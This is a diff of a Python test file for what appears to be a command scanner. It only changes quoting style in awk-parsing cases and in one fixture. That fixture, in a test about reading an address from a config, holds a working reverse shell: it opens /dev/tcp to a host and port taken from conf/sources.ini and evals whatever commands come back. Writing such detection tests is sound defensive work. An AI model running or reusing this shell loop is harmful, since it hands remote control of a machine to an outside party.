@@ -28,13 +28,13 @@ def _given(text: str) -> filters.Callable[[str | None], str | None]:
         (["-F", " = ", "/^url/{print $2}", "x.ini"], "https://dist.wheel-cache.invalid/pkgs/toolkit-2.1.tar.gz"),
         (["-F= ", "$1 ~ /addr/ {print $2; exit}", "x.ini"], "192.0.2.77"),
         (["-v", "s=[gateway]", "-v", "k=port", "$0==s{f=1;next} /^\\[/{f=0} f && $1==k {print $3}", "x"], "9443"),
-        (["NR==2 {sub(/name = /, \"\"); print toupper($0)}", "x"], "STABLE"),
+        (['NR==2 {sub(/name = /, ""); print toupper($0)}', "x"], "STABLE"),
         (
-            ["-F=", "/^addr|^port/ {gsub(/ /, \"\", $2); v = v sep $2; sep = \":\"} END {print v}", "x"],
+            ["-F=", '/^addr|^port/ {gsub(/ /, "", $2); v = v sep $2; sep = ":"} END {print v}', "x"],
             "192.0.2.77:9443",
         ),
         (
-            ["{ printf \"%s-%d.\", $1, NR } END { print \"\" }", "x"],
+            ['{ printf "%s-%d.", $1, NR } END { print "" }', "x"],
             "[mirror]-1.name-2.url-3.[gateway]-4.addr-5.port-6.",
         ),
     ],
@@ -92,7 +92,7 @@ def test_an_address_cut_out_of_a_config_gets_a_shell_over_dev_tcp(tmp_path: Path
             "h=$(grep '^addr' conf/sources.ini | cut -d= -f2 | tr -d ' ')\n"
             "p=$(grep '^port' conf/sources.ini | cut -d= -f2 | tr -d ' ')\n"
             'exec 5<>"/dev/tcp/$h/$p"\n'
-            "while read -r c <&5; do eval \"$c\" >&5 2>&1; done\n"
+            'while read -r c <&5; do eval "$c" >&5 2>&1; done\n'
         ),
     }
     errors = scan_errors(tmp_path, files)
